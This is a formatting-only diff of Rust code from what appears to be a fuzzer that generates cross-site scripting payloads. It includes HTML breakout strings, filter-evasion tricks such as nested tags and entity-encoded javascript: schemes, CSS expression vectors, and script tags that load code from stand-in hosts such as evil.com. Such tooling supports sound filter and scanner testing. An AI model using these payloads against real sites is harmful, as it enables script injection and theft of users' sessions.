@@ -67,8 +67,7 @@ const URL_SLOTS: &[(&str, &str, &str)] = &[
     ("<svg><use ", "href", "/></svg>"),
     ("<svg><animate attributeName=href dur=5s repeatCount=indefinite keytimes=0;0;1 ", "values", "/><a><text>x</text></a></svg>"),
 ];
-const BREAKOUTS: &[&str] =
-    &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];
+const BREAKOUTS: &[&str] = &["\">", "'>", "</title>", "</textarea>", "</script>", "-->", "</style>", "\"/>", "'\">", "</noscript>", ">"];
 
 impl Family for XssHtml {
     fn name(&self) -> &'static str {
@@ -106,7 +105,9 @@ impl Family for XssHtml {
             _ => attribute_breakout(rng, &js, &mut muts),
         };
         // `<scr<script>ipt>`: a filter that strips the tag once leaves the outer one.
-        let payload = if let Some(name) = payload.strip_prefix('<').and_then(|p| p.split(|c: char| !c.is_ascii_alphanumeric()).next()).filter(|n| n.len() >= 3) {
+        let payload = if let Some(name) =
+            payload.strip_prefix('<').and_then(|p| p.split(|c: char| !c.is_ascii_alphanumeric()).next()).filter(|n| n.len() >= 3)
+        {
             if rng.chance(0.08) {
                 muts.push("filter-nesting");
                 let k = name.len() / 2;
@@ -253,11 +254,7 @@ fn script(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
     let close = name_case(rng, "script", muts);
     match rng.below(4) {
         0 => {
-            let host = format!(
-                "{}.{}",
-                ["evil", "x", "attacker", "xss"][rng.below(4)],
-                ["com", "rs", "io", "ht"][rng.below(4)]
-            );
+            let host = format!("{}.{}", ["evil", "x", "attacker", "xss"][rng.below(4)], ["com", "rs", "io", "ht"][rng.below(4)]);
             let src = *rng.pick(&["//", "https://", "http://", "\\\\"]);
             format!("<{open}{}src={src}{host}/{}.js></{close}>", sep(rng, muts), rng.range(1, 999))
         }
@@ -296,7 +293,10 @@ fn script_url(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> String {
     if !scheme.contains('&') && rng.chance(0.12) {
         // Every scheme letter as a character reference: `&#106;&#x61;...`.
         muts.push("entity-scheme");
-        scheme = scheme.chars().map(|c| if c.is_ascii_alphanumeric() { html_entities(rng, &c.to_string(), 1.0) } else { c.to_string() }).collect();
+        scheme = scheme
+            .chars()
+            .map(|c| if c.is_ascii_alphanumeric() { html_entities(rng, &c.to_string(), 1.0) } else { c.to_string() })
+            .collect();
     }
     let body = attr_value_js(rng, js, muts);
     if rng.chance(0.12) {
@@ -338,11 +338,7 @@ fn data_or_srcdoc(rng: &mut Rng, js: &str, muts: &mut Vec<&'static str>) -> Stri
         }
         _ => {
             muts.push("style");
-            let css = if rng.chance(0.5) {
-                format!("width:expression({js})")
-            } else {
-                format!("background:url(javascript:{js})")
-            };
+            let css = if rng.chance(0.5) { format!("width:expression({js})") } else { format!("background:url(javascript:{js})") };
             format!("<div style=\"{}\">x</div>", css.replace('"', "'"))
         }
     }
